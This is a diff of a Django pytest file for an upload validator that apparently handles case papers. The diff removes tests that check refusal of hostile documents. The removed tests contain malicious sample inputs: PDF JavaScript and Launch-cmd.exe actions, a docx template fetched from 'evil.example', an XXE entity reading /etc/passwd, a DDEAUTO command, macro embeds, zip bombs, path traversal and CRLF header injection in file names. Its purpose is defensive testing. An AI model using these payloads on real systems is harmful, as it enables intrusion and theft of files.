@@ -2,12 +2,8 @@
 
 from __future__ import annotations
 
-import io
 import os
 import time
-import zipfile
-from collections.abc import Callable
-from contextlib import suppress
 from pathlib import Path
 from uuid import uuid4
 
@@ -15,9 +11,6 @@ import pytest
 from django.conf import settings
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client
-from hypothesis import given
-from hypothesis import strategies as st
-from openpyxl import Workbook, load_workbook
 
 from rembug.audit.models import Entry
 from rembug.cases.actions import papers
@@ -26,143 +19,13 @@ from rembug.cases.actions.papers import lay, sweep
 from rembug.cases.actions.personal import holder
 from rembug.cases.models import Case, Paper
 from rembug.cases.queries import papers as found
-from rembug.cases.rules.papers import LARGEST, Looked, Refused, look, title_of
-from rembug.cases.rules.unnamed import without_writer
 from rembug.cases.tests import made
 from rembug.cases.tests.made import ME, officer, step
-from rembug.cases.tests.made_papers import WRITER, docx, odt, parts, pdf, pdf_with_packed
+from rembug.cases.tests.made_papers import WRITER, docx, pdf
 from rembug.lib.errors import Invalid, NotAllowed, NotFound
 from rembug.people.models import Body
 from rembug.people.queries.persons import actor_of
 from rembug.people.tests.town import give, make_person, sign_in
-
-
-def xlsx() -> bytes:
-    book, out = Workbook(), io.BytesIO()
-    book.worksheets[0]["A1"] = "Pompa"
-    book.properties.creator = WRITER
-    book.save(out)
-    return out.getvalue()
-
-
-def locked() -> bytes:
-    """Return a container whose parts ask for a password."""
-    data = bytearray(docx())
-    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
-        place = data.find(mark)
-        while place >= 0:
-            data[place + at] |= 1
-            place = data.find(mark, place + 4)
-    return bytes(data)
-
-
-@pytest.mark.parametrize(
-    ("data", "kind"), [(pdf(), "pdf"), (docx(), "docx"), (xlsx(), "xlsx"), (odt(), "odt")]
-)
-def test_office_documents_are_told_by_their_bytes(data: bytes, kind: str) -> None:
-    assert look(data).kind == kind
-
-
-@pytest.mark.parametrize(
-    ("data", "code"),
-    [
-        (b"", "empty"),
-        (b"%PDF-1.4" + b"0" * LARGEST, "too-large"),
-        (b"<html><script>alert(1)</script>", "unknown"),
-        (b"GIF89a" + pdf(), "unknown"),  # a picture in front of a PDF
-        (b"MZ\x90" + b"0" * 400, "unknown"),
-        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 400, "old"),
-        (pdf()[:-200], "broken"),
-        (pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "script"),
-        (pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "script"),
-        (pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "script"),
-        (pdf(b"/Names << /EmbeddedFiles 9 0 R >>"), "script"),
-        (pdf(b"/AcroForm << /XFA 9 0 R >>"), "script"),
-        (pdf_with_packed(b"7 0 << /S /JavaScript /JS (app.alert(1)) >>"), "script"),
-        (pdf_with_packed(b"0" * 200_000_000), "too-large"),
-        (pdf(b"/Encrypt 9 0 R"), "locked"),
-        (docx(("word/vbaProject.bin", b"x")), "script"),
-        (docx(types=b"application/vnd.ms-word.document.macroEnabled.main+xml"), "script"),
-        (docx(("word/embeddings/oleObject1.bin", b"x")), "script"),
-        (
-            docx(
-                (
-                    "word/_rels/settings.xml.rels",
-                    b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t" TargetMode="External"/>',
-                )
-            ),
-            "script",
-        ),
-        (docx(("word/footer.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>')), "script"),
-        (docx(("word/footer.xml", b"<w:instrText>DDEAUTO cmd</w:instrText>")), "script"),
-        (odt(("Basic/Standard/Module1.xml", b"<m/>")), "script"),
-        (odt(("Scripts/python/a.py", b"x")), "script"),
-        (parts(("a.txt", b"x")), "unknown"),
-        (parts(("word/document.xml", b"x")), "unknown"),
-        (docx(("word/media/zero.xml", b"0" * 101_000_000)), "too-large"),
-        (locked(), "locked"),
-        (docx()[:-40], "broken"),
-    ],
-)  # fmt: skip
-def test_what_runs_loads_hides_or_bursts_is_refused_with_a_remedy(data: bytes, code: str) -> None:
-    with pytest.raises(Refused) as error:
-        look(data)
-    assert error.value.code == code
-    assert papers.REMEDY[code].endswith(".")
-
-
-@given(st.binary(max_size=400), st.sampled_from([b"", b"%PDF-1.7\n", b"PK\x03\x04"]), st.integers(0, 600))
-def test_whatever_comes_is_taken_or_refused_and_nothing_else(noise: bytes, head: bytes, cut: int) -> None:
-    for data in (head + noise, docx()[:cut] + noise, pdf()[:cut] + noise + b"%%EOF"):
-        with suppress(Refused):
-            assert look(data).data == data
-
-
-def test_a_scan_of_random_bytes_is_no_script() -> None:
-    noise = b"".join(b"/JS %d /AA " % number for number in range(2000))
-    picture = b"6 0 obj\n<< /Subtype /Image >>\nstream\n" + noise + b"\nendstream\nendobj\n"
-    assert look(pdf().replace(b"trailer", picture + b"trailer")).kind == "pdf"
-
-
-@pytest.mark.parametrize("make", [pdf, docx, odt, xlsx])
-def test_the_copy_for_everybody_names_no_writer_and_still_opens(make: Callable[[], bytes]) -> None:
-    before = look(make())
-    after = without_writer(before)
-    assert look(after).kind == before.kind
-    seen = [after]
-    if before.kind != "pdf":
-        with zipfile.ZipFile(io.BytesIO(after)) as whole:
-            assert whole.testzip() is None
-            seen = [whole.read(name) for name in whole.namelist()]
-    assert not any(WRITER.encode() in part for part in seen)
-    if before.kind == "pdf":
-        assert len(after) == len(before.data)
-        assert b"(Surat)" in after
-    if before.kind == "xlsx":
-        assert load_workbook(io.BytesIO(after)).worksheets[0]["A1"].value == "Pompa"
-
-
-def test_a_writer_that_cannot_be_taken_out_keeps_the_document_closed() -> None:
-    hidden = pdf(info=b"/Author 9 0 R")
-    packed = pdf().replace(b"/Info 4 0 R", b"/Info 40 0 R")
-    for data in (hidden, packed):
-        with pytest.raises(Refused, match="writer"):
-            without_writer(Looked("pdf", data))
-    signed = pdf(b"/Sig << /ByteRange [0 1 2 3] >>")
-    assert without_writer(Looked("pdf", signed)) == signed
-
-
-@pytest.mark.parametrize(
-    ("name", "title"),
-    [
-        ("C:\\Users\\budi\\Surat_Tugas.pdf", "Surat Tugas"),
-        ("../../etc/passwd", "passwd"),
-        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie: x"),
-        ("", ""),
-    ],
-)
-def test_a_title_is_no_path_and_no_header(name: str, title: str) -> None:
-    assert title_of(name) == title
 
 
 @pytest.fixture
